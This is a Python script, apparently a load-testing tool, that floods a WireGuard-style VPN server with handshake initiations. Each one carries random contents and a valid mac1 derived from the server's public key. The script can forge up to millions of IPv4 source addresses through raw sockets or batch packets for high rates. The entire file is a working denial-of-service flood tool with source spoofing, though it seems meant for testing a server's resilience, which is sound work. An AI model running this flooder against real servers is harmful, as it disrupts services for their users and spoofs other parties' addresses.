#!/usr/bin/python3
"""Sends handshake initiations that hold nothing, with a mac1 that is right: what somebody can send who knows a server's public key.

Usage: flood.py HOST PORT PUBLIC-KEY TYPE SOURCES RATE SECONDS

  TYPE      1 or 5: suite wireguard's or hybrid's
  SOURCES   how many IPv4 addresses they seem to come from, one after the other; 0: none is forged, and heaps come at once
  RATE      how many a second
  SECONDS   when it ends, if nobody ends it before

Prints how many there were.
"""

import base64
import hashlib
import ipaddress
import signal
import socket
import struct
import sys
import time

LENGTHS = {1: 148, 5: 1396}
MACS = 32
FIRST_SOURCE = int(ipaddress.ip_address("100.64.0.0"))
SOURCES_MAX = 1 << 22
UDP_SEGMENT = 103
# How many at a time: enough for a queue to notice, and no more than a socket holds.
HEAP = 2000


def initiation(kind, public_key):
    """One with random contents; mac2 stays zero."""
    message = struct.pack("<I", kind) + random_bytes(LENGTHS[kind] - 4 - MACS)
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return message + hashlib.blake2s(message, digest_size=16, key=key).digest() + bytes(16)


def random_bytes(count):
    with open("/dev/urandom", "rb", buffering=0) as source:
        return source.read(count)


def forger(host, port, messages, sources):
    """Sends so many, each from the next address."""
    door = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = []
    for message in messages:
        # RFC 791 and 768; the kernel fills in the header's sum, and a UDP sum of zero means none.
        udp = struct.pack(">HHHH", 40000, port, 8 + len(message), 0) + message
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(host))
        packets.append(bytearray(header + udp))
    names = [struct.pack(">I", FIRST_SOURCE + number) for number in range(sources)]
    to = (host, 0)
    at = 0

    def send(count):
        nonlocal at
        for number in range(at, at + count):
            packet = packets[number % len(packets)]
            packet[12:16] = names[number % sources]
            door.sendto(packet, to)
        at += count
    return send


def heaper(host, port, messages):
    """Sends so many at once, in as few system calls as it takes."""
    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    door.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(messages[0]))
    at_once = min(64, 60000 // len(messages[0]))
    heap = b"".join((messages * at_once)[:at_once])

    def send(count):
        while count > 0:
            part = min(count, at_once)
            door.sendto(heap[:part * len(messages[0])], (host, port))
            count -= part
    return send


def main():
    host, port, public_key, kind, sources, rate, seconds = sys.argv[1:]
    if not 0 <= int(sources) <= SOURCES_MAX or int(kind) not in LENGTHS:
        sys.exit(__doc__)
    messages = [initiation(int(kind), base64.b64decode(public_key)) for _ in range(64)]
    send = forger(host, int(port), messages, int(sources)) if int(sources) else heaper(host, int(port), messages)
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    sent, due = 0, time.monotonic()
    end = due + float(seconds)
    while not ended and time.monotonic() < end:
        send(HEAP)
        sent += HEAP
        # Who is late does not catch up: no peaks beyond those that were asked for.
        due = max(due + HEAP / int(rate), time.monotonic())
        time.sleep(max(0, due - time.monotonic()))
    print(sent, flush=True)


if __name__ == "__main__":
    main()
